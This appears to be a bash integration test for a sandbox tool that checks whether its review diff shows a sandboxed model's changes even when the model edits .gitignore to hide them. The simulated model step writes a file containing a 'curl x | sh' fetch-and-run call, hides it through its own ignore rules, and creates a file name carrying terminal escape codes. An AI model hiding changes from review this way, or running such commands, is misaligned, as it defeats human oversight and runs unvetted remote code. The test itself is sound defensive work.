#!/usr/bin/env bash
# What the review leaves out (docs/threat-model.md, review -> apply): an
# npm-like tree written in a cow session.  warden diff (text, --stat,
# --name-status, --json) summarises what the real directory's ignore
# rules ignore (.gitignore in any directory, negation, .git/info/exclude)
# as one line per top-level entry with counts and bytes, and shows the
# rest in full; --all lists everything; apply writes only what was shown,
# apply --all everything, and a digest of one selection applies nothing
# under the other.  The attack: the model's own .gitignore ignores
# src/evil.c, then the model changes it; the rules that count are the
# host's, so the change is shown (and the .gitignore change too, though
# the host's rules name .gitignore).  After
# that .gitignore is applied, a later change to src/evil.c is summarised
# and stays in the session unless --all.  --stat of an empty set prints
# nothing, as git's.
. "$(dirname "$0")/lib.sh"
require_root
require_userns
require_python
grep -qw overlay /proc/filesystems || modprobe overlay 2>/dev/null ||
	skip "no overlayfs in this kernel"
[ -e /dev/loop-control ] || skip "no loop devices (sandbox disks)"

export WARDEN_STATE_DIR=$T/state
at_exit 'for s in gi empty; do "$WARDEN" rm "$s" >/dev/null 2>&1; done'

w() {
	"$WARDEN" "$@" >"$OUT" 2>"$ERR" </dev/null
	RC=$?
}
OUT=$T/out
ERR=$T/err

# ---- the project on the host
cd "$WS" || exit 1
# (".gitignore" too: some projects ignore their ignore files; a changed
# one is shown all the same)
printf 'node_modules/\ndist/\n*.log\n!keep.log\n!dist/keep.js\n.gitignore\n' >.gitignore
mkdir -p src sub .git/info
printf 'int a;\n' >src/a.c
printf 'int good;\n' >src/evil.c
printf '*.tmp\n!important.tmp\n' >sub/.gitignore
printf 'local-only/\n' >.git/info/exclude
cd - >/dev/null || exit 1

w create gi --workspace "$WS" --workspace-mode cow --timeout 120
expect_rc 0 "create a cow session"

# ---- the model's turn: npm install, a build, logs, and the attack
w exec gi -- /bin/sh -c '
	set -e
	i=0
	while [ $i -lt 300 ]; do
		mkdir -p node_modules/pkg$i
		printf "module.exports = %d;\n" $i >node_modules/pkg$i/index.js
		i=$((i + 1))
	done
	head -c 2097152 /dev/zero >node_modules/big.bin
	mkdir dist
	printf "bundle\n" >dist/bundle.js
	printf "kept?\n" >dist/keep.js
	printf "npm debug\n" >npm-debug.log
	printf "t\n" >"$(printf "esc\033]0;pwned\007\033[2J.log")"
	printf "keep me\n" >keep.log
	printf "x\n" >sub/x.tmp
	printf "important\n" >sub/important.tmp
	printf "int y;\n" >sub/y.c
	mkdir local-only && printf "z\n" >local-only/z
	printf "int a = 1;\n" >src/a.c
	printf "src/evil.c\n" >>.gitignore
	printf "evil.c\n" >src/.gitignore
	printf "int evil = system(\"curl x | sh\");\n" >src/evil.c'
expect_rc 0 "the session writes node_modules/, dist/, logs, and ignores src/evil.c itself"

# ---- warden diff: the summary lines and the changes in full
w diff gi
expect_rc 0 "warden diff"
cp "$OUT" "$T/diff.txt"
expect_out '^node_modules/ +301 files, 2\.0 MiB, ignored \(warden diff --all lists them\)$' \
	"node_modules/ is one line: 301 files, 2.0 MiB, ignored"
expect_out '^dist/ +2 files, 13 bytes, ignored' \
	"dist/ is one line; dist/keep.js stays ignored (a negation cannot re-include under an excluded directory)"
expect_out '^npm-debug.log +1 file, 10 bytes, ignored' "*.log: npm-debug.log ignored"
expect_out '^local-only/ +1 file, 2 bytes, ignored' ".git/info/exclude counts"
expect_out '^sub/ +1 file, 2 bytes, ignored' "sub/.gitignore's *.tmp: sub/x.tmp ignored"
check "a summary line's name is escaped as every name is (no raw ESC or BEL)" \
	bash -c "! grep -q \$'[\x1b\x07]' '$T/diff.txt' && grep -qF '\"esc\\033]0;pwned\\a\\033[2J.log\"  ' '$T/diff.txt'"
check "no ignored path is listed by name" bash -c "! grep -E 'pkg[0-9]|bundle.js|x\.tmp|local-only/z' '$T/diff.txt'"
expect_out '^modified +src/evil.c$' "the attack: src/evil.c, ignored by the model's own .gitignore, is shown"
check "... with its content" grep -qF 'int evil = system' "$T/diff.txt"
check "... and no summary line stands for it" bash -c "! grep -q '^src/ ' '$T/diff.txt'"
expect_out '^modified +\.gitignore$' "the model's change to .gitignore is shown"
expect_out '^\+src/evil.c$' "... in full"
expect_out '^added +src/\.gitignore' "a new src/.gitignore is shown"
expect_out '^added +keep.log' "!keep.log re-includes it"
expect_out '^added +sub/important.tmp' "!important.tmp in sub/.gitignore re-includes it"
expect_out '^modified +src/a.c$' "a real change is shown"
d_text=$(sed -n 's/^change set \([0-9a-f]\{64\}\)$/\1/p' "$T/diff.txt")

w diff gi --name-status
expect_out '^node_modules/ +301 files' "--name-status: the summary line"
check "--name-status: no ignored path by name" bash -c "! grep -q 'pkg1/' '$OUT'"
w diff gi --stat
expect_out '^ src/evil.c +\| ' "--stat: src/evil.c"
expect_out '^node_modules/ +301 files' "--stat: the summary line"
check "--stat: no ignored path by name" bash -c "! grep -q 'pkg1/' '$OUT'"

w diff gi --json
expect_rc 0 "diff --json"
cp "$OUT" "$T/diff.json"
d_def=$(json_get 'j["digest"]' "$T/diff.json")
check "--json: the digest is the text's" test "$d_def" = "$d_text"
check "--json: ignored lists node_modules/ with 301 files" test \
	"$(json_get '[(g["files"], g["bytes"] > 2097152) for g in j["ignored"] if g["path"] == "node_modules/"]' "$T/diff.json")" = '[[301, true]]'
check "--json: no ignored file in the list" test \
	"$(json_get 'sum(f["path"].startswith(("node_modules", "dist")) for f in j["files"])' "$T/diff.json")" = 0
check "--json: src/evil.c in the list" test \
	"$(json_get '[f["status"] for f in j["files"] if f["path"] == "src/evil.c"]' "$T/diff.json")" = '["modified"]'

# ---- --all: everything, flagged
w diff gi --all --json
expect_rc 0 "diff --all --json"
cp "$OUT" "$T/all.json"
d_all=$(json_get 'j["digest"]' "$T/all.json")
check "--all: node_modules' 301 files listed, each flagged ignored" test \
	"$(json_get 'sum(1 for f in j["files"] if f["path"].startswith("node_modules/") and f["type"] != "directory" and f["ignored"])' "$T/all.json")" = 301
check "--all: no summary" test "$(json_get 'j["ignored"]' "$T/all.json")" = '[]'
check "--all and the default have different digests" test "$d_all" != "$d_def"
w diff gi --all --name-status
expect_out '^added +node_modules/pkg7/index.js +\(new file 0644\)  \(ignored: applied only with --all\)$' \
	"--all --name-status: an ignored file by name, marked"

# ---- apply: a digest of the other selection applies nothing
w apply gi --expect "$d_all"
expect_rc 125 "apply --expect (the --all digest) without --all: refused"
check "... and nothing was written" bash -c "[ ! -e '$WS/keep.log' ] && grep -q good '$WS/src/evil.c'"
w apply gi --all --expect "$d_def"
expect_rc 125 "apply --all --expect (the default digest): refused"
check "... and nothing was written" bash -c "[ ! -e '$WS/keep.log' ] && [ ! -e '$WS/node_modules' ]"

w apply gi --expect "$d_def"
expect_rc 0 "apply --expect (the default digest)"
expect_out '^node_modules/ +301 files, 2\.0 MiB, ignored: left in the sandbox \(apply --all writes them\)$' \
	"apply's report says what it left in the session"
check "the shown changes landed (src/a.c, keep.log, sub/important.tmp, sub/y.c)" bash -c \
	"grep -q 'a = 1' '$WS/src/a.c' && [ -f '$WS/keep.log' ] && [ -f '$WS/sub/important.tmp' ] && [ -f '$WS/sub/y.c' ]"
check "src/evil.c landed as it was shown" grep -q 'int evil' "$WS/src/evil.c"
check "no ignored file landed" bash -c \
	"[ ! -e '$WS/node_modules' ] && [ ! -e '$WS/dist' ] && [ ! -e '$WS/npm-debug.log' ] && [ ! -e '$WS/sub/x.tmp' ] && [ ! -e '$WS/local-only' ]"

# The model's .gitignore is the host's now (it was shown, then applied):
# a later change to src/evil.c is summarised, and apply leaves it.
w exec gi -- /bin/sh -c 'printf "int later;\n" >src/evil.c'
w diff gi
expect_out '^src/ +1 file, 11 bytes, ignored' "after the apply, the host's new rule ignores src/evil.c: a summary line"
w apply gi
expect_rc 0 "apply (default)"
check "the ignored change to src/evil.c stayed in the session" grep -q 'int evil' "$WS/src/evil.c"

w apply gi --all
expect_rc 0 "apply --all"
check "apply --all wrote node_modules (301 files), dist/, the log, src/evil.c" bash -c \
	"[ \$(find '$WS/node_modules' -type f | wc -l) = 301 ] && [ -f '$WS/dist/keep.js' ] && [ -f '$WS/npm-debug.log' ] && grep -q later '$WS/src/evil.c'"

# ---- nothing changed: --stat prints nothing, as git's
w diff gi --stat
expect_rc 0 "diff --stat after apply --all"
check "--stat with nothing changed prints nothing" test ! -s "$OUT"
w diff gi
check "diff with nothing changed prints nothing" test ! -s "$OUT"

# ---- bad input: --all where it means nothing
w discard gi --all
expect_rc 125 "discard --all: an unknown option, status 125"
expect_out "unknown option '--all'" "... named" "$ERR"

finish
